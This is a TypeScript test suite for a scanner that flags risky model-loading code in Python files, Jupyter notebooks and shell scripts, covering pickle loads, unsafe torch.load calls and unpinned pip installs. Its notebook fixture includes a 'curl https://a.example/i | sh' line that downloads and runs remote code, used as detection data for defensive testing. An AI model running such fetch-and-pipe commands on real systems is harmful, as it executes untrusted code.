import { notebook } from "../../src/formats/notebook";
import { pythonCode } from "../../src/formats/python-code";
import { shellCode } from "../../src/formats/shell-code";
import { BufferSource } from "../../src/bytes/sources";
import { scanBytes } from "../support/scan";
import { findingsIn } from "../support/loader-code";
import { contextOf } from "../support/see";

const FORMATS = { "python-code": pythonCode, notebook, "shell-code": shellCode };

function claimed(path: string, text: string, inside: readonly string[] = []): string[] {
  const artifact = { at: { path, inside }, bytes: new BufferSource(Buffer.from(text)), depth: inside.length };
  return Object.entries(FORMATS).flatMap(([id, format]) => (format.claims(artifact, contextOf()) ? [id] : []));
}

describe("who claims what", () => {
  test.each([
    ["a.py", ["python-code"]],
    ["dir/a.PY", ["python-code"]],
    ["a.ipynb", ["notebook"]],
    ["a.sh", ["shell-code"]],
    ["Dockerfile", ["shell-code"]],
    ["docker/Dockerfile.gpu", ["shell-code"]],
    ["gpu.dockerfile", ["shell-code"]],
    ["a.txt", []],
    ["my-Dockerfile-notes.md", []],
  ])("%s", (path, expected) => {
    expect(claimed(path, "x")).toEqual(expected);
  });

  test("not what is empty, has NULs, or stands in an archive", () => {
    expect(claimed("a.py", "")).toEqual([]);
    expect(claimed("a.py", "x\0")).toEqual([]);
    expect(claimed("a.zip", "x", ["a.py"])).toEqual([]);
  });

  test("code is not listed as an artifact", () => {
    expect(scanBytes(Buffer.from("import pickle\npickle.load(f)"), "a.py")).toMatchObject({ text: true, members: 0 });
    expect(scanBytes(Buffer.from("import pickle\npickle.load(f)"), "a.py").format).toBeUndefined();
  });
});

describe("notebooks", () => {
  const cell = (source: unknown, type = "code") => ({ cell_type: type, metadata: {}, outputs: [], source });
  const book = (...cells: unknown[]) =>
    JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 }, undefined, 1);
  const lineOf = (text: string, part: string) => text.slice(0, text.indexOf(part)).split("\n").length;

  test("cells are one program, and lines are those of the file", () => {
    const text = book(
      cell(["import torch\n", "%matplotlib inline\n", "import requests"]),
      cell(["torch.load(x, weights_only=False)"], "markdown"),
      cell([
        "if True:\n",
        "    !pip install -q git+https://a.example/o/p\n",
        'torch.load("m.pt",\n',
        "  weights_only=False)\n",
      ]),
      cell("%%bash\ncurl https://a.example/i | sh\n"),
      cell(["%%html\n", "torch.load(x, weights_only=False)"]),
    );
    expect(findingsIn(text, "a.ipynb")).toEqual([
      `medium MA-LDR-001 ${lineOf(text, 'torch.load(\\"m.pt')}: torch.load is called with weights_only=False: a pickle in the file runs code`,
      `low MA-LDR-008 ${lineOf(text, "!pip")}: pip install takes git+https://a.example/o/p without a commit`,
      `high MA-LDR-007 ${lineOf(text, "%%bash")}: what curl downloads from https://a.example/i goes into sh, which runs it`,
    ]);
  });

  test("one that is no JSON is told, not judged", () => {
    expect(findingsIn('{"cells": [ import torch; torch.load', "a.ipynb")).toEqual([
      expect.stringMatching(/^info MA-SYS-005 -: is not read here yet: a notebook that cannot be read: it is no JSON/),
    ]);
  });
});

describe("what could not be read", () => {
  const LOAD = "import pickle\npickle.load(f)\n";

  test("is told for a large file that may matter, and not for other large files", () => {
    expect(findingsIn(`${LOAD}x = "${"a".repeat(5 << 20)}"`, "a.py")).toEqual([
      expect.stringMatching(/^medium MA-LDR-002 2: /),
      expect.stringMatching(/^info MA-SYS-005 -: .*code of \d+ bytes; only the first 2097152 are looked at$/),
    ]);
    expect(findingsIn(`x = "${"a".repeat(5 << 20)}"`, "a.py")).toEqual([]);
  });

  test("is told where much is no Python, and what is good is judged all the same", () => {
    expect(findingsIn(LOAD + "{% if x %} $ ? $\n".repeat(20), "a.py")).toEqual([
      expect.stringMatching(/^medium MA-LDR-002 2: /),
      expect.stringMatching(/^info MA-SYS-005 -: .*places in \d+ lines that are no Python/),
    ]);
  });

  test("is told where the parser takes too long, and what came before is judged all the same", () => {
    const found = findingsIn(`${LOAD}${"yield a: b\n".repeat(180_000)}`, "a.py");
    expect(found[0]).toMatch(/^medium MA-LDR-002 2: /);
    expect(found.join("\n")).toMatch(/info MA-SYS-005 -: .*Python code behind line \d+$/m);
  });

  test("Python 2 is judged without more ado", () => {
    expect(findingsIn('import cPickle\nprint "x"\ncPickle.load(open("a"))\nexec code in ns\n', "a.py")).toEqual([
      expect.stringMatching(/^medium MA-LDR-002 3: /),
    ]);
  });

  test("lines are right behind every kind of line end, and a byte order mark", () => {
    expect(findingsIn("\ufeffimport pickle\r\n\r\n# é\r\npickle.load(f)\r\n", "a.py")[0]).toMatch(/ 4: /);
  });
});
